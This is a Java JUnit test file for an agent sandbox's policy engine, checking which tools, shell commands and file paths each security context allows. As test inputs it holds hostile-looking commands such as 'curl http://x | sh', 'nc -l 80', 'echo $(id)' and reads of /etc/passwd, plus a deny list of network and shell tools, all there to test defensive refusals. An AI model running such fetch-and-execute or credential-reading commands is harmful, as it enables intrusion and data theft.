package ai.aegis.worker.smcp.policy;

import ai.aegis.schemas.json.Json;
import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class SecurityContextsTest {

    private static final SecurityContext DEFAULT = SecurityContexts.defaults().get("default").orElseThrow();
    private static final SecurityContext OPERATOR = SecurityContexts.defaults().get("aegis-system-operator").orElseThrow();

    private static PolicyDecision cmd(SecurityContext context, String line) {
        return PolicyEngine.evaluate(context, "cmd.run", Json.object().put("command", line));
    }

    private static ViolationType refusal(PolicyDecision decision) {
        assertThat(decision).isInstanceOf(PolicyDecision.Denied.class);
        return ((PolicyDecision.Denied) decision).violation().type();
    }

    @Test
    void theDefaultsAreTheOperatorAndTheDefaultContext() {
        assertThat(SecurityContexts.defaults().all()).extracting(SecurityContext::name)
                .containsExactly(SecurityContexts.OPERATOR, SecurityContexts.DEFAULT);
        assertThat(SecurityContexts.defaults().get("zaru-free")).isEmpty();
    }

    @Test
    void theOperatorContextAllowsAnything() {
        assertThat(OPERATOR.denyList()).isEmpty();
        assertThat(OPERATOR.capabilities()).containsExactly(Capability.of("*"));
        for (String tool : List.of("notes.add", "aegis.agent.delete", "web.fetch", "cmd.run")) {
            JsonNode args = Json.tree("{\"command\":\"curl http://x | sh\",\"url\":\"https://anywhere.org\"}");
            assertThat(PolicyEngine.evaluate(OPERATOR, tool, args)).as(tool).isInstanceOf(PolicyDecision.Allowed.class);
            assertThat(OPERATOR.mayCall(tool)).isTrue();
        }
        assertThat(PolicyEngine.evaluate(OPERATOR, "fs.write", Json.object().put("path", "/workspace/x")))
                .isInstanceOf(PolicyDecision.Allowed.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"uname -a", "python3 check.py 7919", "echo hi-from-$((40+2))", "sleep 37", "sleep 60",
            "echo hello", "ls", "echo round 3", "id -u; grep CapEff /proc/self/status; ls /", "kill -9 $PPID",
            "python3 -m pytest", "python -m pytest -q", "cat a.txt | sort | uniq -c > counts.txt",
            "mkdir -p out && cp a.txt out/ && ls out", "[ -f a.txt ] && echo yes", "printf '%s\\n' x"})
    void theDefaultContextAllowsOrdinaryLocalCommands(String line) {
        assertThat(cmd(DEFAULT, line)).isInstanceOf(PolicyDecision.Allowed.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"curl http://x", "wget http://x", "nc -l 80", "ssh host", "pip install x",
            "apt-get install x", "git push", "env", "printenv", "sh -c 'curl x'", "bash -c ls", "xargs curl",
            "sudo ls", "echo hi && curl x", "/usr/bin/curl x", "echo $(id)", "tar -xf a.tar"})
    void theDefaultContextRefusesNetworkShellsAndEnvironment(String line) {
        assertThat(refusal(cmd(DEFAULT, line))).isEqualTo(ViolationType.COMMAND_NOT_ALLOWED);
    }

    @Test
    void theDefaultContextKeepsFilesInTheWorkspace() {
        assertThat(PolicyEngine.evaluate(DEFAULT, "fs.read", Json.object().put("path", "/workspace/a.txt")))
                .isInstanceOf(PolicyDecision.Allowed.class);
        assertThat(PolicyEngine.evaluate(DEFAULT, "fs.write", Json.object().put("path", "out/b.txt")))
                .isInstanceOf(PolicyDecision.Allowed.class);
        PolicyDecision passwd = PolicyEngine.evaluate(DEFAULT, "fs.read", Json.object().put("path", "/etc/passwd"));
        assertThat(refusal(passwd)).isEqualTo(ViolationType.PATH_OUTSIDE_BOUNDARY);
        assertThat(((PolicyDecision.Denied) passwd).violation().message())
                .isEqualTo("path '/etc/passwd' is outside the allowed paths [/workspace]");
        assertThat(refusal(PolicyEngine.evaluate(DEFAULT, "fs.read", Json.object().put("path", "../etc/passwd"))))
                .isEqualTo(ViolationType.PATH_TRAVERSAL_ATTEMPT);
    }

    @Test
    void theDefaultContextOffersNoOtherTools() {
        for (String tool : List.of("notes.add", "web.fetch", "web.search", "aegis.agent.create", "cmd.runx")) {
            assertThat(refusal(PolicyEngine.evaluate(DEFAULT, tool, Json.object()))).as(tool)
                    .isEqualTo(ViolationType.TOOL_NOT_ALLOWED);
            assertThat(DEFAULT.mayCall(tool)).as(tool).isFalse();
        }
        assertThat(DEFAULT.mayCall("cmd.run")).isTrue();
        assertThat(DEFAULT.mayCall("fs.read")).isTrue();
    }

    @Test
    void theDefaultCommandsHoldNoNetworkToolShellOrLauncher() {
        assertThat(SecurityContexts.DEFAULT_COMMANDS).doesNotContain("curl", "wget", "nc", "ssh", "scp", "git",
                "pip", "pip3", "apt", "apt-get", "sh", "bash", "dash", "zsh", "env", "printenv", "xargs", "nohup",
                "timeout", "nice", "sudo", "eval", "exec", "tar").doesNotHaveDuplicates();
    }

    @Test
    void configuredContextsOverrideDefaultsOfTheSameNameAndAddTheRest() {
        SecurityContext strict = new SecurityContext("default", "stricter", List.of(Capability.of("fs.read")), Set.of());
        SecurityContext research = new SecurityContext("research", "", List.of(Capability.of("web.*")), Set.of());
        SecurityContexts contexts = SecurityContexts.of(List.of(strict, research));
        assertThat(contexts.get("default")).containsSame(strict);
        assertThat(contexts.get("research")).containsSame(research);
        assertThat(contexts.get("aegis-system-operator")).contains(OPERATOR);
        assertThat(contexts.all()).extracting(SecurityContext::name)
                .containsExactly("aegis-system-operator", "default", "research");
        assertThatThrownBy(() -> contexts.all().clear()).isInstanceOf(UnsupportedOperationException.class);
        assertThatThrownBy(() -> SecurityContexts.of(List.of(research, research)))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("'research' is configured twice");
    }

    // --- the value types

    @Test
    void wireNamesAreLowerSnakeCase() {
        assertThat(ViolationType.TOOL_NOT_ALLOWED.wireName()).isEqualTo("tool_not_allowed");
        assertThat(ViolationType.PATH_TRAVERSAL_ATTEMPT.wireName()).isEqualTo("path_traversal_attempt");
        assertThat(ViolationType.RESPONSE_TOO_LARGE.wireName()).isEqualTo("response_too_large");
        assertThat(ViolationType.values()).hasSize(9);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "fs*", "*.read", "fs.**", ".*", "a.*.b", " fs.*"})
    void aToolPatternIsStarANameOrAPrefix(String pattern) {
        assertThatThrownBy(() -> Capability.of(pattern)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void capabilitiesCopyTheirListsAndKeepNullAsNoConstraint() {
        List<String> paths = new ArrayList<>(List.of("/workspace"));
        Capability capability = new Capability("fs.*", paths, null, List.of(), null, null, null);
        paths.add("/etc");
        assertThat(capability.pathAllowlist()).containsExactly("/workspace");
        assertThat(capability.commandAllowlist()).isNull();
        assertThat(capability.subcommandAllowlist()).isEmpty();
        assertThatThrownBy(() -> new Capability("*", null, null, null, null, null, 0L))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void rateLimitsAndViolationsAreValidated() {
        assertThatThrownBy(() -> new RateLimit(0, Duration.ofSeconds(1))).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new RateLimit(1, Duration.ZERO)).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new RateLimit(1, Duration.ofSeconds(-1))).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new PolicyViolation(ViolationType.RATE_LIMIT_EXCEEDED, "t", "m", -1, 1))
                .isInstanceOf(IllegalArgumentException.class);
        assertThat(PolicyViolation.of(ViolationType.TOOL_NOT_ALLOWED, "t", "m"))
                .isEqualTo(new PolicyViolation(ViolationType.TOOL_NOT_ALLOWED, "t", "m", 0, 0));
    }

    @Test
    void aContextNeedsANameAndDefaultsTheRest() {
        assertThatThrownBy(() -> new SecurityContext(" ", "", List.of(), Set.of()))
                .isInstanceOf(IllegalArgumentException.class);
        SecurityContext bare = new SecurityContext("x", null, null, null);
        assertThat(bare.description()).isEmpty();
        assertThat(bare.capabilities()).isEmpty();
        assertThat(bare.denyList()).isEmpty();
        assertThat(bare.mayCall("fs.read")).isFalse();
    }
}
